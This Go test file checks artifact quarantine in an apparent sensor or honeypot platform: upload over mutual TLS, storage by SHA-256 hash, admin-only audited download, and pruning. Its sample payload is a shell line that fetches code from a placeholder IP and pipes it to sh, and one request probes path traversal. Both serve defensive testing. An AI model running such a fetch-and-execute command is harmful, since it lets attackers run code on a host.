package master_test

import (
	"context"
	"crypto/sha256"
	"crypto/tls"
	"encoding/hex"
	"errors"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/internal/agent"
	"github.com/decnet/decnet/internal/agent/shipper"
	"github.com/decnet/decnet/internal/master"
)

func shaOf(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

// blobFile writes content to a temporary file, as the quarantine holds it.
func blobFile(t *testing.T, content string) (*os.File, int64) {
	t.Helper()
	p := filepath.Join(t.TempDir(), "blob")
	if err := os.WriteFile(p, []byte(content), 0o400); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(p)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f, int64(len(content))
}

// TestArtifactsFromAgentToAdmin: an enrolled agent uploads a blob over
// mutual TLS, the master keeps it only under its true hash, and only an
// admin downloads it, as an attachment, with an audit entry.
func TestArtifactsFromAgentToAdmin(t *testing.T) {
	e := newRoutesEnv(t)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go e.m.ServeAgents(ctx, l)
	token, _, err := e.m.Authority.NewJoinToken(ctx, "sensor-1", time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	en, err := agent.Join(ctx, l.Addr().String(), token, e.m.CA.Hash(), dir)
	if err != nil {
		t.Fatal(err)
	}
	_, tlsCfg, err := agent.LoadEnrollment(dir)
	if err != nil {
		t.Fatal(err)
	}
	up := agent.NewBlobUploader(en, &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: tlsCfg}})

	const payload = "#!/bin/sh\nwget http://198.51.100.7/x -O- | sh\n"
	sha := shaOf(payload)
	f, n := blobFile(t, payload)
	if err := up.PutBlob(ctx, sha, f, n); err != nil {
		t.Fatal(err)
	}
	// Again: the master already has it (HEAD answers, nothing is sent).
	if err := up.PutBlob(ctx, sha, f, n); err != nil {
		t.Fatal(err)
	}
	fi, err := os.Stat(filepath.Join(e.m.Config.DataDir, "artifacts", sha))
	if err != nil || fi.Mode().Perm() != 0o400 {
		t.Fatalf("stored blob: %v %v", fi, err)
	}
	// Bytes that do not hash to their name are refused for good.
	f2, n2 := blobFile(t, "something else")
	if err := up.PutBlob(ctx, shaOf("not this"), f2, n2); !errors.Is(err, shipper.ErrBlobRefused) || !strings.Contains(err.Error(), "HASH_MISMATCH") {
		t.Fatalf("mismatched blob: %v", err)
	}
	if _, err := os.Stat(filepath.Join(e.m.Config.DataDir, "artifacts", shaOf("not this"))); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("mismatched blob stored: %v", err)
	}
	// Without a client certificate nothing is taken.
	anon := agent.NewBlobUploader(en, &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: e.m.CA.Pool(), ServerName: "localhost"}}})
	f3, n3 := blobFile(t, "anonymous")
	if err := anon.PutBlob(ctx, shaOf("anonymous"), f3, n3); err == nil || !strings.Contains(err.Error(), "403") {
		t.Fatalf("upload without a certificate: %v", err)
	}

	// The operator API: admin only, as an attachment, audited.
	get := func(c *apiClient, path string) (*http.Response, string) {
		resp, err := c.hc.Get(e.ts.URL + "/api/v1" + path)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp, string(b)
	}
	resp, body := get(e.admin, "/artifacts/"+sha)
	if resp.StatusCode != 200 || body != payload {
		t.Fatalf("admin download: %d %q", resp.StatusCode, body)
	}
	if cd := resp.Header.Get("Content-Disposition"); cd != `attachment; filename="`+sha+`.bin"` ||
		resp.Header.Get("Content-Type") != "application/octet-stream" || !strings.Contains(resp.Header.Get("Content-Security-Policy"), "sandbox") {
		t.Fatalf("download headers: %v", resp.Header)
	}
	if resp, _ := get(e.viewer, "/artifacts/"+sha); resp.StatusCode != http.StatusForbidden {
		t.Fatalf("viewer download: %d", resp.StatusCode)
	}
	if resp, _ := get(e.admin, "/artifacts/"+shaOf("never")); resp.StatusCode != http.StatusNotFound {
		t.Fatalf("unknown blob: %d", resp.StatusCode)
	}
	if resp, _ := get(e.admin, "/artifacts/..%2f..%2fmaster.db"); resp.StatusCode != http.StatusNotFound {
		t.Fatalf("path escape: %d", resp.StatusCode)
	}
	audit, err := e.m.Store.ListAudit(ctx, 0, 50)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, a := range audit {
		found = found || (a.Action == "GET /artifacts/{sha}" && strings.HasSuffix(a.Target, sha))
	}
	if !found {
		t.Fatalf("download not audited: %+v", audit)
	}

	// Retention removes blobs unused for the window.
	if n, err := e.m.Artifacts.Prune(time.Now().Add(time.Hour)); err != nil || n != 1 {
		t.Fatalf("prune: %d %v", n, err)
	}
	if e.m.Artifacts.Has(sha) {
		t.Fatal("pruned blob still there")
	}
}

func TestArtifactsPutChecksBounds(t *testing.T) {
	a := master.NewArtifacts(t.TempDir())
	if err := a.Put("../x", strings.NewReader("x")); err == nil {
		t.Fatal("a path was taken as a hash")
	}
	if err := a.Put(shaOf(""), io.LimitReader(zeros{}, master.MaxArtifact+10)); !errors.Is(err, master.ErrTooLarge) {
		t.Fatalf("oversized blob: %v", err)
	}
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }
